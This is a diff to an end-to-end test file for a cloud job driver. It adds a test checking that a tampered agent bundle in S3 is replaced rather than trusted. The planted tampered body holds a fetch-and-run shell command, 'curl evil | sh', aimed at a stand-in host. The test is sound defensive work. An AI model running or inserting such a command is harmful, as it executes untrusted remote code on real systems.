@@ -4,6 +4,7 @@
  * launch left under a job id (marker, status, logs) is ever taken for the new launch's outcome.
  */
 import { expect } from "chai";
+import { createHash } from "node:crypto";
 import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
@@ -53,6 +54,15 @@ describe("driver end to end: launch identity (real Pulumi engine, moto)", functi
       expect(fs.existsSync(path.join(sandbox.home, "state", ".pulumi", "stacks", "cloudcompute", "job-no-passphrase-1.json"))).to.equal(false);
       expect(fs.existsSync(path.join(sandbox.home, "jobs", "job-no-passphrase-1.json"))).to.equal(false);
     }
+  });
+
+  it("a foreign object under the agent bundle's content-addressed key is replaced by the real bundle, not trusted", async () => {
+    const bundle = fs.readFileSync(sandbox.agentBundle);
+    const bundleKey = `results/_cloudcompute/agent/agent-${createHash("sha256").update(bundle).digest("hex")}.js`;
+    await sandbox.s3.send(new PutObjectCommand({ Bucket: sandbox.bucket, Key: bundleKey, Body: "require('child_process').exec('curl evil | sh')" }));
+    const res = await sandbox.run(["--config", ok, "--subject", SUBJECT, "--json"]);
+    expect(res.code, res.stderr).to.equal(0);
+    expect(await s3Text(bundleKey)).to.equal(bundle.toString("utf8"));
   });
 
   it("refuses a job id that was launched before (exit 2), leaving the earlier job's stack and record as they were", async () => {
